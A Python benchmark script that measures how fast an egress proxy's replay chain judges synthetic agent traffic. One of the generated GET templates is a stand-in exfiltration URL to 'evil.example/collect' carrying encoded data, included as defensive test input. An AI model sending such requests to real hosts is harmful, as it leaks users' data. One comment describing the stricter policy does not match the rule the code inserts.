"""Replay throughput: flows per second through `bottle replay`'s chain, on one core, as JSON.

Baseline in the same run: reading the same flow file and doing nothing else, so the figure
separates our chain's cost from flow deserialisation. Times are this process's CPU time,
pinned to one core, so other load on a shared machine does not count against it.

    .venv/bin/python benchmarks/replay_throughput.py [--flows 5000]
"""

from __future__ import annotations

import argparse
import atexit
import io as stdio
import json
import os
import shutil
import sys
import tempfile
import time
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from benchmarks import agent_corpus  # noqa: E402
from cli.diff import Summary, diff  # noqa: E402
from egress.policy.compiled import compile_policy  # noqa: E402
from egress.policy.loader import load_policy, parse_policy  # noqa: E402
from egress.scan.dlp import memo  # noqa: E402
from proxy.replay import Replayer, format_json, read_flows  # noqa: E402
from tests.support.flows import http_flow, write_flows  # noqa: E402

# The GETs an agent's session makes besides its model calls (package indexes, APIs, docs).
GETS = (
    "https://api.github.com/repos/octo/hello{i}/pulls?state=open&page={p}",
    "https://pypi.org/simple/package-{i}/",
    "https://registry.npmjs.org/module-{i}",
    "https://docs.python.org/3/library/mod{i}.html",
    "https://evil.example/collect?d=aGVsbG8{i}",
)


def build(path: Path, n: int) -> None:
    """A realistic flow file: half of the flows are ~10 KB model calls (Anthropic Messages
    or OpenAI Chat bodies from `benchmarks.agent_corpus`, each different), half GETs, every
    flow with its own URL and headers, responses recorded."""
    bodies = [agent_corpus.body(10_000, seed) for seed in range(n // 2 + 1)]
    flows = []
    for i in range(n):
        headers = {"User-Agent": f"agent/{i % 7}.{i % 13}", "Accept": "*/*",
                   "X-Request-Id": f"req-{i:08d}-{(i * 2654435761) % 2**32:08x}"}
        if i % 2 == 0:
            body = bodies[i // 2]
            api = "messages" if b'"max_tokens"' in body[:80] else "chat/completions"
            host = "api.anthropic.com" if api == "messages" else "api.openai.com"
            flows.append(http_flow("POST", f"https://{host}/v1/{api}",
                                   {**headers, "Content-Type": "application/json"}, body, 200,
                                   b'{"id":"msg_%d","content":[{"type":"text","text":"ok"}]}' % i,
                                   {"Content-Type": "application/json"}))
        else:
            url = GETS[(i // 2) % len(GETS)].format(i=i, p=i % 9)
            status = None if "evil" in url else 200
            flows.append(http_flow("GET", url, headers, b"", status, b'{"ok":true}',
                                   {"Content-Type": "application/json"}))
    write_flows(path, flows)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--flows", type=int, default=5000)
    parser.add_argument("--policy", default=str(REPO / "policies/default.yaml"))
    args = parser.parse_args()
    if hasattr(os, "sched_setaffinity"):
        os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})  # one core

    path = Path(tempfile.mkdtemp(prefix="bench-replay-")) / "flows.mitm"
    atexit.register(shutil.rmtree, path.parent, True)
    build(path, args.flows)
    compiled = compile_policy(load_policy(args.policy), args.policy)

    start = time.process_time()
    count = sum(1 for _ in read_flows([path]))
    read_only = time.process_time() - start

    sink = stdio.StringIO()
    start = time.process_time()
    verdicts: dict[str, int] = {}
    for line in format_json(Replayer(compiled).run(read_flows([path]))):
        sink.write(line + "\n")
        verdict = json.loads(line)["verdict"]
        verdicts[verdict] = verdicts.get(verdict, 0) + 1
    replay = time.process_time() - start

    # Diff mode: every flow judged under two policies (the default, and the default with
    # package uploads denied), each judgement a full replay of that flow.
    stricter = compile_policy(parse_policy(Path(args.policy).read_text().replace(
        "  deny:\n", "  deny:\n    - hosts: [api.anthropic.com]\n      methods: [POST]\n", 1)),
        "stricter")
    # `bottle replay --against` runs in a process of its own: none of the scans remembered
    # by the replay above (`egress.scan.dlp.memo`) would be there.
    memo.MEMO.clear()
    start = time.process_time()
    summary = Summary()
    for change in diff([path], compiled, stricter):
        summary.add(change)
    diff_time = time.process_time() - start

    print(json.dumps({
        "benchmark": "replay_throughput",
        "flows": count,
        "file_bytes": path.stat().st_size,
        "baseline_read_only_flows_per_s": round(count / read_only, 1),
        "replay_flows_per_s": round(count / replay, 1),
        "chain_us_per_flow": round((replay - read_only) / count * 1e6, 1),
        "clock": "process CPU time, one core",
        "verdicts": verdicts,
        "diff_flows_per_s": round(count / diff_time, 1),
        "diff_summary": summary.as_json(),
    }, indent=2))


if __name__ == "__main__":
    main()
